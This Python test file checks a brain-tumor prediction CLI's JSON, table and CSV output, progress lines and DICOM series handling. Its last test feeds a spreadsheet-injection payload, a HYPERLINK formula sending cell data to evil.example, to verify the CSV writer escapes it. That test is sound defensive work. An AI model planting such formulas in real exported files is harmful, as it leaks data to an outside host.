"""`brain-tumor predict --format table|csv` says what the JSON says; `--progress` lines go to standard error only."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import numpy as np
import pytest

from app import cli
from app.cli import main
from app.predict_command import CSV_COLUMNS, PrintFormat, probability_text, render
from app.settings import Settings
from tests.api.service_client import png_bytes
from tests.conftest import EVERY_SLICE, TUMOR_SERIES, make_tiny_model_dir, read_slice
from tests.dicom.builders import FLAIR, mr_series, to_bytes, tumor_channels


def run(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(["predict", *arguments])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.fixture
def inputs(tmp_path: Path) -> list[str]:
    """Two slices and a file that is no image, in that order."""
    bad = tmp_path / "notes.png"
    bad.write_text("not an image")
    return [str(TUMOR_SERIES[0]), str(bad), str(TUMOR_SERIES[1])]


def test_csv_has_one_row_per_file_with_the_json_values(
    inputs: list[str], tiny_model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    common = [*inputs, "--model-dir", str(tiny_model_dir), "--masks-dir", str(tmp_path / "masks")]
    json_code, json_out, _ = run(capsys, *common)
    code, out, err = run(capsys, *common, "--format", "csv", "--overwrite")  # the same masks as the first run

    assert (code, json_code) == (1, 1)
    assert err == ""
    rows = list(csv.DictReader(io.StringIO(out)))
    assert tuple(rows[0]) == CSV_COLUMNS
    results = json.loads(json_out)["results"]
    for row, result in zip(rows, results, strict=True):
        assert row["index"] == str(result["index"]) and row["file"] == result["file"]
        assert row["ok"] == str(result["ok"]).lower()
        if result["ok"]:
            prediction = result["prediction"]
            assert float(row["tumor_probability"]) == prediction["tumor_probability"]
            assert row["tumor_detected"] == str(prediction["tumor_detected"]).lower()
            assert float(row["threshold"]) == prediction["threshold"]
            assert int(row["area_pixels"]) == prediction["mask"]["area_pixels"]
            assert row["mask_file"] == result["mask_file"]
            assert row["error_code"] == row["error_message"] == ""
        else:
            assert (row["error_code"], row["error_message"]) == (result["error"]["code"], result["error"]["message"])
            assert row["tumor_probability"] == row["mask_file"] == ""


def test_table_has_a_header_and_one_line_per_file(
    inputs: list[str], tiny_model_dir: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _, json_out, _ = run(capsys, *inputs, "--model-dir", str(tiny_model_dir))
    code, out, err = run(capsys, *inputs, "--model-dir", str(tiny_model_dir), "--format", "table")

    assert code == 1
    assert err == ""
    header, *lines = out.splitlines()
    assert header.split() == ["#", "file", "result", "probability", "area", "px", "mask", "or", "error"]
    results = json.loads(json_out)["results"]
    assert len(lines) == len(results)
    for line, result in zip(lines, results, strict=True):
        cells = line.split()
        assert cells[:2] == [str(result["index"]), result["file"]]
        if result["ok"]:
            prediction = result["prediction"]
            detected = ["tumor"] if prediction["tumor_detected"] else ["no", "tumor"]
            probability = probability_text(prediction["tumor_probability"])
            assert cells[2 : 4 + len(detected) - 1] == [*detected, probability]
        else:
            assert cells[2] == "error" and cells[3] == f"{result['error']['code']}:"


@pytest.mark.parametrize(
    ("probability", "shown"),
    [
        (0.99972, ">0.999"),
        (0.9995, ">0.999"),
        (1.0, ">0.999"),
        (0.99949, "0.999"),
        (0.5, "0.500"),
        (0.00051, "0.001"),
        (0.00049, "<0.001"),
        (0.0, "<0.001"),
    ],
)
def test_table_never_shows_a_probability_as_a_certainty(probability: float, shown: str) -> None:
    """Docs review 45 F10: 0.9997 printed "1.000"; the page shows "> 99.9 %". CSV and JSON keep the number."""
    prediction = {"tumor_probability": probability, "tumor_detected": probability >= 0.5, "threshold": 0.5}
    report = {"results": [{"index": 0, "file": "slice.png", "ok": True, "prediction": prediction}]}

    (line,) = render(report, PrintFormat.TABLE).splitlines()[1:]
    (row,) = csv.DictReader(io.StringIO(render(report, PrintFormat.CSV)))

    assert line.split()[-2:] == [shown, "0"]  # probability, area
    assert float(row["tumor_probability"]) == probability
    assert json.loads(render(report, PrintFormat.JSON))["results"][0]["prediction"]["tumor_probability"] == probability


def test_table_of_a_dicom_series_ends_with_the_series_verdict(
    tiny_model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    paths = []
    for index, dataset in enumerate(mr_series(tumor_channels(FLAIR))):
        paths.append(tmp_path / f"slice_{index}.dcm")
        paths[-1].write_bytes(to_bytes(dataset))
    _, json_out, _ = run(capsys, *map(str, paths), "--model-dir", str(tiny_model_dir))
    code, out, _ = run(capsys, *map(str, paths), "--model-dir", str(tiny_model_dir), "--format", "table")

    assert code == 0
    series = json.loads(json_out)["series"]
    header, *lines, verdict = out.splitlines()
    assert header.split()[:3] == ["#", "file", "frame"]
    assert [line.split()[1] for line in lines] == [str(path) for path in paths]
    assert verdict == f"series: tumor detected, volume {series['tumor_volume_ml']:.2f} mL"


def test_series_gives_raster_slices_the_series_clean_up(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # Every pixel over the mask threshold 0: each slice's mask is the whole slice, one 3-D blob of 3 x 65,536 voxels,
    # under the manifest's minimum of 10**6, so the series clean-up drops it; slices answered alone keep theirs.
    models = make_tiny_model_dir(tmp_path / "models", mask_threshold=EVERY_SLICE, series_min_component_voxels=10**6)
    monkeypatch.setattr(cli, "get_settings", lambda: Settings(inference_batch_size=2))
    slices = [str(path) for path in TUMOR_SERIES[:3]]

    alone_code, alone_out, _ = run(capsys, *slices, "--model-dir", str(models), "--masks-dir", str(tmp_path / "alone"))
    code, out, err = run(
        capsys, *slices, "--series", "--model-dir", str(models), "--masks-dir", str(tmp_path / "series"), "--progress"
    )

    assert (alone_code, code) == (0, 0)
    alone = [result["prediction"] for result in json.loads(alone_out)["results"]]
    assert [(item["tumor_detected"], item["mask"]["area_pixels"]) for item in alone] == [(True, 65536)] * 3
    results = json.loads(out)["results"]
    assert [result["file"] for result in results] == slices
    assert [(result["prediction"]["tumor_detected"], result["prediction"]["mask"]) for result in results] == [
        (False, None)
    ] * 3
    assert [result["prediction"]["tumor_probability"] for result in results] == [
        item["tumor_probability"] for item in alone
    ]
    assert sorted(path.name for path in (tmp_path / "alone").iterdir()) == [
        f"{Path(name).stem}_predicted_mask.png" for name in sorted(slices)
    ]
    assert not any((tmp_path / "series").iterdir())  # no mask, no file
    assert err.splitlines() == ["[2/3] slices", "[3/3] slices"]  # the models' chunks of the one volume


def test_series_stretches_16_bit_slices_over_the_series_as_the_api_does(
    tiny_model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`--series` reads a 16-bit volume as its 8-bit export (stretched over the volume), not each slice over itself."""
    flair = [read_slice(path)[:, :, 1] for path in TUMOR_SERIES]
    top = max(int(item.max()) for item in flair)
    answers = []
    for depth, images in (
        ("8", [np.rint(item * (255 / top)).astype(np.uint8) for item in flair]),
        ("16", [item.astype(np.uint16) * 16 for item in flair]),
    ):
        paths = [tmp_path / f"slice{depth}_{index}.png" for index in range(len(images))]
        for path, image in zip(paths, images, strict=True):
            path.write_bytes(png_bytes(image))
        code, out, _ = run(capsys, *map(str, paths), "--series", "--model-dir", str(tiny_model_dir))
        assert code == 0
        answers.append([result["prediction"] for result in json.loads(out)["results"]])

    eight, sixteen = answers
    for answer, reference in zip(sixteen, eight, strict=True):
        assert answer["tumor_probability"] == pytest.approx(reference["tumor_probability"], abs=1e-6)
        assert answer["mask"] == reference["mask"]


def test_progress_lines_go_to_stderr_per_chunk(
    inputs: list[str], tiny_model_dir: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli, "get_settings", lambda: Settings(inference_batch_size=2))
    _, quiet_out, quiet_err = run(capsys, *inputs, "--model-dir", str(tiny_model_dir))

    code, out, err = run(capsys, *inputs, "--model-dir", str(tiny_model_dir), "--progress")

    assert code == 1
    assert quiet_err == ""  # stderr is no terminal here: no progress unless asked for
    assert out == quiet_out  # stdout is the same report either way
    assert err.splitlines() == ["[2/3] notes.png", f"[3/3] {TUMOR_SERIES[1].name}"]


def test_progress_of_a_dicom_series_counts_slices(
    tiny_model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(cli, "get_settings", lambda: Settings(inference_batch_size=2))
    paths = []
    for index, dataset in enumerate(mr_series(tumor_channels(FLAIR))):
        paths.append(tmp_path / f"slice_{index}.dcm")
        paths[-1].write_bytes(to_bytes(dataset))

    code, _, err = run(capsys, *map(str, paths), "--model-dir", str(tiny_model_dir), "--progress")

    assert code == 0
    assert err.splitlines() == ["[2/3] slices", "[3/3] slices"]


def test_mixed_dicom_and_images_is_one_error(
    tiny_model_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    dicom = tmp_path / "slice.dcm"
    dicom.write_bytes(to_bytes(mr_series(tumor_channels(FLAIR))[0]))

    code, out, err = run(
        capsys, str(dicom), str(TUMOR_SERIES[0]), "--model-dir", str(tiny_model_dir), "--format", "csv"
    )

    assert code == 1
    assert out == ""
    assert err == (
        "brain-tumor predict: error: a batch must hold either DICOM files or PNG/JPEG/TIFF images; "
        "got 1 DICOM and 1 PNG/JPEG/TIFF files\n"
    )


def test_unknown_format_is_a_usage_error(tiny_model_dir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as raised:
        main(["predict", str(TUMOR_SERIES[0]), "--format", "xml"])

    assert raised.value.code == 2
    assert "argument --format: invalid choice: 'xml'" in capsys.readouterr().err


def test_help_documents_mask_names_and_exit_codes(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit):
        main(["predict", "--help"])

    out = capsys.readouterr().out
    assert out.startswith("usage: brain-tumor predict [-h] [--format {json,table,csv}]")
    assert "MASKS_DIR/<stem>_predicted_mask.png" in out
    assert "<stem>_frame<N>_predicted_mask.png" in out
    exit_codes = out.split("exit codes:\n", 1)[1]
    assert [
        line.split()[0] for line in exit_codes.splitlines() if line.startswith("  ") and line.split()[0].isdigit()
    ] == [
        "0",
        "1",
        "2",
        "3",
        "130",
    ]


def test_images_are_read_one_chunk_at_a_time(
    inputs: list[str], tiny_model_dir: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every file used to be read before the first prediction: 80 files of 20 MB held 1.6 GB at once. Now a chunk is
    read only when its turn comes, so the files never read are the chunks still ahead."""
    import app.predict_command

    monkeypatch.setattr(cli, "get_settings", lambda: Settings(inference_batch_size=2))
    events: list[str] = []
    read = app.predict_command.read_file
    monkeypatch.setattr(
        app.predict_command, "read_file", lambda path, limits: events.append(path.name) or read(path, limits)
    )
    monkeypatch.setattr(
        app.predict_command.Progress, "advance", lambda self, count, total, what: events.append(f"done {what}")
    )

    code, out, _ = run(capsys, *inputs, "--model-dir", str(tiny_model_dir))

    names = [Path(path).name for path in inputs]
    assert code == 1  # notes.png is no image
    assert events == [names[0], names[1], f"done {names[1]}", names[2], f"done {names[2]}"]
    assert [result["ok"] for result in json.loads(out)["results"]] == [True, False, True]


@pytest.mark.parametrize("kind", ["dicom", "series"])
def test_a_series_over_the_request_size_stops_before_the_models(
    kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A series is read whole, as one request: its files together are bounded as a request body is."""
    if kind == "dicom":
        paths = []
        for index, dataset in enumerate(mr_series(tumor_channels(FLAIR))):
            paths.append(tmp_path / f"slice_{index}.dcm")
            paths[-1].write_bytes(to_bytes(dataset))
        extra: list[str] = []
    else:
        paths, extra = list(TUMOR_SERIES), ["--series"]
    total = sum(path.stat().st_size for path in paths)
    monkeypatch.setattr(cli, "get_settings", lambda: Settings(max_batch_upload_bytes=total - 1))

    code, out, err = run(capsys, *map(str, paths), *extra, "--model-dir", "/nonexistent/models")

    assert (code, out) == (cli.EXIT_USAGE, "")
    assert err == (
        f"brain-tumor predict: error: a series is read whole, and its {len(paths)} files hold {total} bytes; at most "
        f"{total - 1} (MAX_BATCH_UPLOAD_BYTES, as one /v1/predict/batch request): predict fewer files at a time\n"
    )
    monkeypatch.setattr(cli, "get_settings", lambda: Settings(max_batch_upload_bytes=total))
    assert run(capsys, *map(str, paths), *extra, "--model-dir", "/nonexistent/models")[0] == cli.EXIT_MODELS


def test_predict_csv_cells_from_files_never_start_a_formula():
    formula_uid = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    report = {
        "results": [
            {
                "index": 0,
                "file": "@SUM(1+1).dcm",
                "sop_instance_uid": formula_uid,
                "frame_number": 1,
                "ok": True,
                "prediction": {
                    "tumor_probability": 0.75,
                    "tumor_detected": True,
                    "threshold": 0.5,
                    "mask": {"area_pixels": 12},
                },
            },
            {"index": 1, "file": "-1+2.png", "ok": False, "error": {"code": "empty_file", "message": "empty"}},
        ]
    }
    rows = list(csv.DictReader(io.StringIO(render(report, PrintFormat.CSV))))
    assert [row["file"] for row in rows] == ["'@SUM(1+1).dcm", "'-1+2.png"]
    assert rows[0]["sop_instance_uid"] == "'" + formula_uid
    assert (rows[0]["tumor_probability"], rows[0]["area_pixels"], rows[0]["index"]) == ("0.75", "12", "0")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
